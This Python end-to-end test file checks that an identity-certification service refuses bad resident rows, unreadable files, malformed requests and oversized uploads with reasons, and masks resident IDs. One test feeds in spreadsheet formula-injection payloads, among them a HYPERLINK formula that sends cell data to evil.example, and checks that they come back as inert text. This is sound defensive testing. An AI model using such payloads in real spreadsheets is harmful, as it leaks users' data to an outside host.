"""Bad department rows, files and HTTP requests: each refused with a reason a clerk can act on and kept,
the service keeps answering, and the good rows beside them go through.

(Bad receipts — 15 kinds, from a wrong check character to GB18030 bytes — go through the
chaos ledger: tests/chaos/test_chaos_small.py checks each is kept with its reason.)
"""
from __future__ import annotations

import csv
import io

import httpx

from tests.chaos.leaks import full_ids
from tests.e2e.security_support import ARTIFACTS, fetch, identity, issue  # noqa: F401 - identity is a fixture
from tests.support.people import resident_id
from tests.support.system import System, create_system, drop_system

REGION = "340321"


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_bad_rows_are_rejected_with_a_reason_and_good_neighbours_accepted(identity: System) -> None:
    token = await issue(identity, "civil_affairs", REGION)
    good = [resident_id(REGION) for _ in range(2)]
    wrong_check = resident_id(REGION)
    wrong_check = wrong_check[:17] + ("0" if wrong_check[17] != "0" else "1")
    bad = {
        "id_check_character": {"id": wrong_check, "category": "低保", "certified_on": "2024-10-08"},
        "id_excel_number": {"id": "3.40321E+17", "category": "低保", "certified_on": "2024-10-08"},
        "id_length": {"id": "34032119800101", "category": "低保", "certified_on": "2024-10-08"},
        "id_birth_date": {"id": "340321198002300016", "category": "低保", "certified_on": "2024-10-08"},
        "unknown_category": {"id": resident_id(REGION), "category": "贫困户ABC", "certified_on": "2024-10-08"},
        "impossible_date": {"id": resident_id(REGION), "category": "低保", "certified_on": "2024-02-30"},
        "certified_in_future": {"id": resident_id(REGION), "category": "低保", "certified_on": "2099-01-01"},
        "control_characters": {"id": resident_id(REGION), "category": "低\u0000保", "certified_on": "2024-10-08"},
        "ended_before_certified": {"id": resident_id(REGION), "category": "低保", "certified_on": "2024-10-08",
                                   "ended_on": "2024-01-01"},
    }
    rows = [{"id": good[0], "category": "minimum_living", "certified_on": "2024-10-08"}, *bad.values(),
            {"id": good[1], "category": "特困", "certified_on": "2024/10/8"}]
    async with httpx.AsyncClient(timeout=30) as client:
        answer = await client.post(identity.url("identity_certification", "/api/submissions"),
                                   json={"period": "2024-10", "rows": rows}, headers=auth(token))
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert (body["rows_total"], body["rows_accepted"], body["rows_rejected"]) == (len(rows), 2, len(bad))
    assert all(r["reason"] and r["reason_code"] for r in body["rejected"])
    assert not full_ids(answer.text), "the answer echoes a full resident ID"
    kept = await fetch(identity, "SELECT line_no, accepted, reason_code, reason FROM row_result "
                                 "WHERE submission_id = $1::uuid ORDER BY line_no", body["submission_id"])
    assert sum(1 for r in kept if not r["accepted"] and r["reason"]) == len(bad)
    stored = await fetch(identity, "SELECT person_id FROM status WHERE person_id = ANY($1::text[])", good)
    assert sorted(r["person_id"] for r in stored) == sorted(good)


async def test_files_that_cannot_be_read_are_refused_whole_with_the_reason(identity: System) -> None:
    token = await issue(identity, "civil_affairs", REGION)
    person = resident_id(REGION)
    text = f"公民身份号码,人员类别,认定时间\n{person},低保,2024-10-08\n"
    cases = {
        "utf16": ("list.csv", text.encode("utf-16"), 422),
        "old_xls": ("list.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, 422),
        "no_header": ("list.csv", b"\x00\x01\x02garbage,,,\n1,2,3\n", 422),
    }
    async with httpx.AsyncClient(timeout=30) as client:
        for name, (filename, content, status) in cases.items():
            answer = await client.post(identity.url("identity_certification", "/api/submissions/file"),
                                       data={"period": "2024-10"}, files={"file": (filename, content)},
                                       headers=auth(token))
            assert answer.status_code == status, (name, answer.text)
            assert "message" in answer.text or "detail" in answer.text
        # the same list saved by Windows Excel as GBK is read, not refused
        gbk = await client.post(identity.url("identity_certification", "/api/submissions/file"),
                                data={"period": "2024-10"}, files={"file": ("list.csv", text.encode("gbk"))},
                                headers=auth(token))
    assert gbk.status_code == 200 and gbk.json()["rows_accepted"] == 1, gbk.text
    refused = await fetch(identity, "SELECT count(*) AS n FROM submission WHERE outcome = 'refused' AND refusal <> ''")
    assert refused[0]["n"] >= len(cases)


async def test_formula_cells_come_back_as_text_in_the_downloaded_result(identity: System) -> None:
    token = await issue(identity, "civil_affairs", REGION)
    injected = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    lines = ["公民身份号码,人员类别,认定时间,乡镇(街道)"] + [
        f"{resident_id(REGION)},{category},2024-10-08,榴城镇" for category in injected]
    async with httpx.AsyncClient(timeout=30) as client:
        posted = await client.post(identity.url("identity_certification", "/api/submissions/file"),
                                   data={"period": "2024-10"}, files={"file": ("list.csv", "\n".join(lines).encode())},
                                   headers=auth(token))
        assert posted.status_code == 200, posted.text
        result = await client.get(identity.url("identity_certification",
                                               f"/api/submissions/{posted.json()['submission_id']}/result"),
                                  headers=auth(token))
    assert result.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(result.content.decode("utf-8-sig"))) for cell in row]
    assert cells, "empty result"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert dangerous == [], f"cells a spreadsheet would run as formulas: {dangerous}"
    assert not full_ids(result.text)


async def test_malformed_http_requests_get_a_masked_4xx_and_the_service_keeps_answering(identity: System) -> None:
    token = await issue(identity, "civil_affairs", REGION)
    person = next(p for p in (resident_id(REGION) for _ in range(20)) if p[17].isdigit())
    url = identity.url("identity_certification", "/api/submissions")
    requests = {
        "not_json": dict(content=b"{period: 2024-10", headers={**auth(token), "content-type": "application/json"}),
        "id_as_number": dict(json={"period": "2024-10", "rows": [{"id": int(person), "category": 7}]}, headers=auth(token)),
        "id_in_wrong_field": dict(json={"period": f"2024-13-{person}", "rows": []}, headers=auth(token)),
        # year 0: the snapshot's end date (the month's last day) was a ValueError, the request a 500
        "period_year_zero": dict(json={"period": "0000-01", "mode": "snapshot",
                                       "rows": [{"id": person, "category": "低保", "certified_on": "2024-10-08"}]},
                                 headers=auth(token)),
        "row_not_object": dict(json={"period": "2024-10", "rows": [person]}, headers=auth(token)),
        "too_many_rows": dict(json={"period": "2024-10", "rows": [{"id": person, "category": "低保"}] * 50_001},
                              headers=auth(token)),
        "latin1_body": dict(content='{"period": "2024-10", "rows": [{"id": "x", "category": "é"}]}'.encode("latin-1"),
                            headers={**auth(token), "content-type": "application/json"}),
    }
    async with httpx.AsyncClient(timeout=60) as client:
        for name, request in requests.items():
            answer = await client.post(url, **request)
            assert answer.status_code in (400, 422), (name, answer.status_code, answer.text[:300])
            assert answer.json()["detail"], name  # says what is wrong
            assert not full_ids(answer.text), f"{name}: the error body echoes a full resident ID"
        health = await client.get(identity.url("identity_certification", "/health"))
    assert health.status_code == 200


class _SmallUploads(System):
    """Identity with a 4 KiB upload bound, so that a too-large file is small enough to send in a test."""

    def env(self, service: str) -> dict[str, str]:
        return {**super().env(service), "YIBAO_UPLOAD_MAX_BYTES": "4096"}


async def test_a_file_over_the_size_bound_is_refused_whole_with_413_and_recorded(servers) -> None:
    system = await create_system(servers, ARTIFACTS, kind=_SmallUploads)
    try:
        system.start("identity_certification")
        await system.wait_healthy(("identity_certification",))
        token = await issue(system, "civil_affairs", REGION)
        line = f"{resident_id(REGION)},低保,2024-10-08\n"
        small = "公民身份号码,人员类别,认定时间\n" + line
        large = small + line * (4096 // len(line.encode()) + 1)
        async with httpx.AsyncClient(timeout=30) as client:
            post = [await client.post(system.url("identity_certification", "/api/submissions/file"),
                                      data={"period": "2024-10"}, files={"file": ("list.csv", text.encode())},
                                      headers=auth(token)) for text in (large, small)]
        assert post[0].status_code == 413, post[0].text
        assert "分成几个文件" in post[0].text and not full_ids(post[0].text)
        assert post[1].status_code == 200 and post[1].json()["rows_accepted"] == 1, post[1].text
        kept = await fetch(system, "SELECT outcome, refusal, rows_total FROM submission ORDER BY received_at")
        assert [(r["outcome"], r["rows_total"]) for r in kept] == [("refused", 0), ("processed", 1)]
        assert "上限" in kept[0]["refusal"]
    finally:
        await drop_system(system)
